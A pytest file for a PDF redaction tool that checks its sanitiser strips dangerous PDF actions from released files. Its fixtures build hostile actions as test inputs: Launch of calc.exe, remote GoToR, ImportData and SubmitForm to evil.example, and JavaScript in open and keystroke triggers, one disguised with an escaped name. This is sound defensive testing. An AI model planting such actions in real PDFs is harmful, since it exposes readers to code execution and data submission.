"""The sanitiser removes actions by their raw /S, wherever they sit (redact/actions.py, run by the engine).

Each input is built with pikepdf (a link, the catalog, a page, a form field, an outline item, a chain of
actions) and every released file is checked with pikepdf, not with PyMuPDF's link API."""

from __future__ import annotations

from pathlib import Path

import pikepdf
import pymupdf
import pytest

from aktindsigt.core.model import Rect
from aktindsigt.redact import RedactionBox, redact_pdf
from aktindsigt.redact.actions import DANGEROUS, remove_actions_from_file

TERM = "Mette Hansen"


def _base(path):
    doc = pymupdf.open()
    page = doc.new_page()
    page.insert_text((72, 72), f"Borgeren {TERM} har skrevet til kommunen.", fontsize=11)
    page.insert_text((72, 100), "Se kommunens hjemmeside for reglerne.", fontsize=11)
    doc.new_page().insert_text((72, 72), "Side to.", fontsize=11)
    doc.save(path)
    doc.close()


def _link(pdf, action, rect=(72, 90, 300, 104)):
    return pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link,
                                                Rect=pikepdf.Array(rect), Border=pikepdf.Array([0, 0, 0]),
                                                A=action))


def _act(kind, **kw):
    return pikepdf.Dictionary(S=pikepdf.Name("/" + kind), **kw)


def _build(tmp_path, add) -> str:
    src = tmp_path / "base.pdf"
    _base(src)
    with pikepdf.open(src) as pdf:
        add(pdf)
        out = tmp_path / "in.pdf"
        pdf.save(out)
    return str(out)


def _all_dicts(pdf):
    """Every dictionary in the file, direct ones included."""
    seen, todo, out = set(), [pdf.trailer, *pdf.objects], []
    while todo:
        obj = todo.pop()
        if isinstance(obj, pikepdf.Dictionary | pikepdf.Stream | pikepdf.Array):
            if obj.is_indirect:
                if obj.objgen in seen:
                    continue
                seen.add(obj.objgen)
            if isinstance(obj, pikepdf.Array):
                todo.extend(obj)
            else:
                out.append(obj)
                todo.extend(v for k, v in obj.items() if k != "/Parent")
    return out


def _released(tmp_path, src, redact=True):
    out = tmp_path / "out.pdf"
    doc = pymupdf.open(src)
    boxes = ([RedactionBox(1, Rect(*doc[0].search_for(TERM)[0]), "§ 30, nr. 1")] if redact else [])
    doc.close()
    redact_pdf(src, out, boxes)
    return out


def _check_clean(path):
    with pikepdf.open(path) as pdf:
        for d in _all_dicts(pdf):
            s = d.get("/S")
            assert not (isinstance(s, pikepdf.Name) and str(s) in DANGEROUS), repr(d)
            assert "/JS" not in d and "/AA" not in d, repr(d)
            assert "/OpenAction" not in d
        raw = path.read_bytes()
    for needle in (b"calc.exe", b"app.alert", b"evil.example", b"/Launch", b"/JavaScript", b"/SubmitForm"):
        assert needle not in raw, needle


CASES = {
    "launch link (no /F, only /Win)": lambda pdf: pdf.pages[0].obj.__setitem__(
        "/Annots", pikepdf.Array([_link(pdf, _act("Launch", Win=pikepdf.Dictionary(F=pikepdf.String("calc.exe"))))])),
    "GoToR link": lambda pdf: pdf.pages[0].obj.__setitem__(
        "/Annots", pikepdf.Array([_link(pdf, _act("GoToR", F=pikepdf.String("//evil.example/x.pdf"),
                                                  D=pikepdf.Array([0, pikepdf.Name.Fit])))])),
    "ImportData link": lambda pdf: pdf.pages[0].obj.__setitem__(
        "/Annots", pikepdf.Array([_link(pdf, _act("ImportData", F=pikepdf.String("evil.example.fdf")))])),
    "JavaScript behind a harmless GoTo (/Next)": lambda pdf: pdf.pages[0].obj.__setitem__(
        "/Annots", pikepdf.Array([_link(pdf, _act(
            "GoTo", D=pikepdf.Array([pdf.pages[1].obj, pikepdf.Name.Fit]),
            Next=pikepdf.Array([_act("JavaScript", JS=pikepdf.String("app.alert(1)"))])))])),
    "catalog OpenAction and AA": lambda pdf: (
        pdf.Root.__setitem__("/OpenAction", pdf.make_indirect(_act("JavaScript", JS=pikepdf.String("app.alert(1)")))),
        pdf.Root.__setitem__("/AA", pikepdf.Dictionary(WC=_act("Launch", F=pikepdf.String("calc.exe"))))),
    "page AA": lambda pdf: pdf.pages[0].obj.__setitem__(
        "/AA", pikepdf.Dictionary(O=_act("JavaScript", JS=pikepdf.String("app.alert(1)")))),
    "form field with SubmitForm and keystroke script": lambda pdf: _form(pdf),
    "outline item with Launch": lambda pdf: _outline(pdf),
}


def _form(pdf):
    widget = pdf.make_indirect(pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Btn, T=pikepdf.String("send"),
        Rect=pikepdf.Array([72, 200, 200, 220]), P=pdf.pages[0].obj, Ff=65536,
        A=_act("SubmitForm", F=pikepdf.Dictionary(FS=pikepdf.Name.URL, F=pikepdf.String("https://evil.example/"))),
        AA=pikepdf.Dictionary(K=_act("JavaScript", JS=pikepdf.String("app.alert(1)")))))
    pdf.pages[0].obj.Annots = pikepdf.Array([widget])
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([widget]))


def _outline(pdf):
    outlines = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Outlines, Count=1))
    item = pdf.make_indirect(pikepdf.Dictionary(Title=pikepdf.String("Bilag"), Parent=outlines,
                                                A=_act("Launch", F=pikepdf.String("calc.exe"))))
    outlines.First = item
    outlines.Last = item
    pdf.Root.Outlines = outlines


@pytest.mark.parametrize("name", sorted(CASES))
def test_the_released_file_has_no_dangerous_action(tmp_path, name):
    src = _build(tmp_path, CASES[name])
    with pikepdf.open(src) as pdf:  # the input really has it
        assert any(str(d.get("/S", "")) in DANGEROUS or "/AA" in d for d in _all_dicts(pdf))
    out = _released(tmp_path, src)
    _check_clean(out)
    doc = pymupdf.open(out)
    assert TERM not in doc[0].get_text() and "Se kommunens hjemmeside" in doc[0].get_text()
    doc.close()


def test_an_escaped_name_is_still_an_action(tmp_path):
    """``/L#61unch`` is ``/Launch`` to a reader: qpdf normalises the name, so the raw check sees it."""
    src = _build(tmp_path, CASES["launch link (no /F, only /Win)"])
    raw = Path(src).read_bytes()
    assert b"/Launch" in raw
    Path(src).write_bytes(raw.replace(b"/Launch", b"/L#61unch"))
    removed = remove_actions_from_file(src)
    assert removed and "Launch" in removed[0]
    _check_clean(Path(src))


def test_uri_with_redacted_text_goes_and_a_plain_link_stays(tmp_path):
    def add(pdf):
        secret = _link(pdf, _act("URI", URI=pikepdf.String("https://kommune.dk/sag?navn=Mette%20Hansen")),
                       rect=(72, 150, 300, 166))  # not under the box: found by its text
        plain = _link(pdf, _act("URI", URI=pikepdf.String("https://kommune.dk/regler")))
        pdf.pages[0].obj.Annots = pikepdf.Array([secret, plain])

    out = _released(tmp_path, _build(tmp_path, add), redact=True)
    with pikepdf.open(out) as pdf:
        uris = [str(a.A.URI) for a in pdf.pages[0].obj.get("/Annots", []) if "/A" in a]
    assert uris == ["https://kommune.dk/regler"]


def test_nothing_to_remove_leaves_the_file_alone(tmp_path):
    src = tmp_path / "plain.pdf"
    _base(src)
    before = src.read_bytes()
    assert remove_actions_from_file(src, [TERM]) == []
    assert src.read_bytes() == before
